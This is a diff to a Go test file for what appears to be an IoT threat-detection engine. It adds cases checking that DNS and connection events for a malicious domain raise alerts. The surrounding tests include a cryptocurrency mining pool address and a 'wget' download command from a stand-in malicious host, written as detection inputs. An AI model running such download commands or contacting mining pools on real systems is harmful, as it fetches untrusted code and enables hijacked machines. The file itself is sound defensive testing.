@@ -168,6 +168,8 @@ func TestEngine_Lists(t *testing.T) {
 		t.Errorf("%+v", found)
 	}
 	want(t, "a name beside", s.tell(dns("notevil.example"), dns("evil.example.org"), dns(""), dns("..")), "")
+	want(t, "JSON 1.0", s.tell(raw("DNS", `{"Name":"evil.example","Addresses":["203.0.113.1"]}`)), "IoT_MaliciousNameQueriesDetection evil.example")
+	want(t, "a name beside a connection", s.tell(raw("ConnectionCreate", `{"RemoteAddress":"203.0.113.1","ExtraDetails":{"DnsName":"evil.example"}}`)), "IoT_MaliciousNameQueriesDetection evil.example")
 	want(t, "a pool", s.tell(dns("xmr.nanopool.org.")), "IoT_CryptoMiner pool: xmr.nanopool.org")
 	for text, expect := range map[string]string{
 		"wget http://cdn.evil.example/x":                   "IoT_PossibleMalware evil.example",
